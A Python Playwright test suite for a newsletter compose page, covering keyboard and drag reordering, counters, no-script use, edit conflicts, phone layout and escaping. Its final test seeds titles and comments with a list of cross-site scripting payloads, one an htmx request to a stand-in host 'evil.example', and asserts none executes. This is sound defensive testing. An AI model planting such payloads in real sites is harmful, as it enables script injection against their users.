"""The compose page in Chromium: by pointer, by keyboard, without script, with hostile texts."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, Page
from sqlalchemy import update

from digest.composer.snapshot import edition_from_json
from digest.store.tables import comments, posts
from tests.support.browser import chromium, overflow
from tests.support.composing_desk import desk_of, open_draft
from tests.support.desk_work import Desk
from tests.support.web_server import Site, serving


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


@pytest.fixture
def work(tmp_path: Path) -> Desk:
    """Return a draft of ten stories."""
    return open_draft(tmp_path)


@pytest.fixture
def site(work: Desk) -> Iterator[Site]:
    with serving(desk_of(work)) as site:
        yield site


_TROUBLE: list[str] = []


def _note(trouble: object) -> None:
    """Remember a script of a feed that ran, or one of ours that failed."""
    _TROUBLE.append(str(trouble))
    if isinstance(trouble, Dialog):
        trouble.dismiss()


@pytest.fixture(autouse=True)
def no_trouble() -> Iterator[None]:
    """Check after each test that no script of a feed ran, and none of ours failed."""
    _TROUBLE.clear()
    yield
    assert _TROUBLE == []


def open_page(browser: Browser, site: Site, query: str = "", **options: bool) -> Page:
    """Show the compose page; nothing beyond this machine is loaded."""
    context = browser.new_context(
        viewport={"width": 1280, "height": 900}, java_script_enabled=options.get("script", True)
    )
    page = context.new_page()
    page.on("dialog", _note)
    page.on("pageerror", _note)
    page.goto(f"{site.url}/editions/1/compose{query}")
    return page


def order(work: Desk, section: str = "News") -> list[int]:
    edition = edition_from_json(work.edition().snapshot)
    return [
        story.post_id for story in edition.stories if story.home_in(edition.categories) == section
    ]


def focused(page: Page) -> str:
    return str(page.evaluate("document.activeElement.id"))


def test_by_keyboard_alone_a_story_moves_and_the_focus_moves_with_it(
    browser: Browser, site: Site, work: Desk
) -> None:
    page = open_page(browser, site)
    page.focus("#down-2")
    for expected in ([1, 3, 2, 4, 5], [1, 3, 4, 2, 5]):
        version = page.locator("[name=version]").first.get_attribute("value")
        page.keyboard.press("Enter")
        page.wait_for_selector(f"#drop [name=version]:not([value='{version}'])", state="attached")
        page.wait_for_selector("#down-2:focus")
        assert order(work) == expected
    assert "Moved “A mill turns again after forty years”" in page.inner_text("#said")
    page.wait_for_selector("body > [role=status]:has-text('Moved')", state="attached")
    page.focus("#undo")
    page.keyboard.press("Enter")
    page.wait_for_selector("text=Undone: moved")
    assert (order(work), focused(page)) == ([1, 3, 2, 4, 5], "undo")


def test_a_story_is_dragged_to_another_section(browser: Browser, site: Site, work: Desk) -> None:
    page = open_page(browser, site)
    page.set_viewport_size({"width": 1280, "height": 2000})
    grip = page.locator("#post-2 .grip")
    target = page.locator("#post-7")
    target.scroll_into_view_if_needed()
    start, end = grip.bounding_box(), target.bounding_box()
    assert start is not None
    assert end is not None
    page.mouse.move(start["x"] + 5, start["y"] + 5)
    page.mouse.down()
    page.mouse.move(end["x"] + 80, end["y"] + end["height"] - 4, steps=6)
    assert page.locator("#post-8.drop-before, #post-7.drop-after").count() == 1
    page.mouse.up()
    page.wait_for_selector("text=Moved “A mill turns again")
    assert order(work, "Sport")[2] == 2
    assert 2 not in order(work)


def test_counts_and_the_inbox_follow_what_is_typed(browser: Browser, site: Site) -> None:
    page = open_page(browser, site, "?post=2")
    page.fill("#subject", "Twelve chars")
    assert page.inner_text("[data-count-of=subject]") == "12 characters"
    assert page.inner_text(".inbox.phone .inbox-subject") == "Twelve chars"
    assert page.get_attribute("[data-bar-of=subject]", "width") == "12"
    page.fill("#subject", "")
    assert page.inner_text(".inbox.phone .inbox-subject").startswith("The bridge at Low Ferry")
    page.fill("#excerpt-2", "one two three")
    assert page.inner_text("[data-count-of=excerpt-2]") == "3 words, 13 characters"
    page.fill("#excerpt-2", "word " * 61)
    assert "bad" in str(page.get_attribute("[data-count-of=excerpt-2]", "class"))


def test_without_script_every_change_works(browser: Browser, site: Site, work: Desk) -> None:
    page = open_page(browser, site, script=False)
    page.click("#up-4")
    assert order(work) == [1, 2, 4, 3, 5]
    page.click("#open-4")
    page.fill("#title-4", "Council votes!")
    page.click("text=Save the texts")
    assert "Council votes!" in page.inner_text("#post-4 h3")
    page.click("#more-4")
    page.locator("#post-4 button:has-text('Drop for ever')").click()
    assert 4 not in order(work)
    page.click("#undo")
    assert 4 in order(work)


def test_two_editors_in_two_browsers_see_their_conflict(browser: Browser, site: Site) -> None:
    anna, ben = open_page(browser, site, "?post=2"), open_page(browser, site, "?post=2")
    for page, title in ((anna, "From Anna"), (ben, "From Ben")):
        page.fill("#title-2", title)
        page.click("text=Save the texts")
        page.wait_for_selector("#said p, .versions")
    assert ben.inner_text(".versions").split("\n")[1::2] != []
    assert "From Anna" in ben.inner_text(".versions")
    assert "From Ben" in ben.inner_text(".versions")
    ben.click("text=Make my change all the same")
    ben.wait_for_selector("#post-2 h3:has-text('From Ben')")


def test_it_fits_a_phone_in_both_themes(browser: Browser, site: Site) -> None:
    for scheme in ("light", "dark"):
        context = browser.new_context(
            viewport={"width": 360, "height": 800},
            color_scheme="dark" if scheme == "dark" else "light",
        )
        page = context.new_page()
        page.goto(f"{site.url}/editions/1/compose?post=1")
        assert overflow(page) <= 0
        page.click("#more-2")
        assert overflow(page) <= 0
        context.close()


PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea></title><svg onload=alert(1)>",
    "' autofocus onfocus=alert(1) x='",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>go</a>",
    '<button hx-get="//evil.example/" hx-trigger="load">x</button>',
)


def test_no_script_of_a_title_a_comment_or_a_name_runs(
    browser: Browser, site: Site, work: Desk
) -> None:
    with work.app.database.write() as connection:
        for number, payload in enumerate(PAYLOADS, 1):
            connection.execute(update(posts).where(posts.c.id == number).values(title=payload))
        for number, payload in enumerate(PAYLOADS[:4], 1):
            changed = {"author": payload, "text": f"{payload} {'and more words ' * 6}"}
            connection.execute(update(comments).where(comments.c.id == number).values(**changed))
    work.compose()
    page = open_page(browser, site, "?post=1")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.click("#refresh")
    page.wait_for_selector("#said p")
    page.goto(f"{site.url}/editions/1/compose?post=1&find=%3Cscript%3E")
    assert all(url.startswith(site.url) for url in asked)
    assert page.locator("main script, main img, main svg:not(.marks)").count() == 0
    assert page.locator("[onfocus], [onload], [onerror], [ontoggle], [hx-get]").count() == 0
